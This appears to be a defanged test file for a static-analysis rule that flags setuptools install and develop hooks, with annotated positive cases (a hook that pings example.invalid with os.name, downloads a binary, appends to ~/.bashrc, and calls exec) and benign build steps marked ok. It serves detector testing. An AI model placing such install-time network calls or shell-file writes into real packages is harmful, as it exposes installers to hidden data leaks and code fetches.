# Test for setup-cmdclass-install-hook (defanged: endpoints are example.invalid).
import os
import subprocess
import sys
import urllib.request

import requests
from setuptools import setup
from setuptools.command.build_ext import build_ext
from setuptools.command.develop import develop
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        # ruleid: setup-cmdclass-install-hook
        requests.get("https://example.invalid/ping", params={"h": os.name})


class DevHook(develop):
    def run(self):
        # ruleid: setup-cmdclass-install-hook
        os.system("python -c 'print(1)' > /dev/null")
        develop.run(self)


class Fetch(install):
    def run(self):
        # ruleid: setup-cmdclass-install-hook
        urllib.request.urlretrieve("https://example.invalid/a.bin", "a.bin")
        # ruleid: setup-cmdclass-install-hook
        with open(os.path.expanduser("~/.bashrc"), "a") as f:
            f.write("# nothing\n")
        # ruleid: setup-cmdclass-install-hook
        exec("x = 1")
        install.run(self)


class BuildNative(build_ext):
    def run(self):
        # ok: setup-cmdclass-install-hook
        subprocess.check_call(["cmake", "--build", "."])
        # ok: setup-cmdclass-install-hook
        os.system("gcc -O2 -c foo.c")
        build_ext.run(self)


class InstallWithMake(install):
    def run(self):
        # ok: setup-cmdclass-install-hook
        subprocess.check_call(["make", "-C", "src"])
        # ok: setup-cmdclass-install-hook
        with open(os.path.join(self.build_lib, "version.txt"), "w") as f:
            f.write("1.0")
        install.run(self)


# ok: setup-cmdclass-install-hook
print(subprocess.check_output([sys.executable, "--version"]))

setup(name="demo", cmdclass={"install": PostInstall, "develop": DevHook})
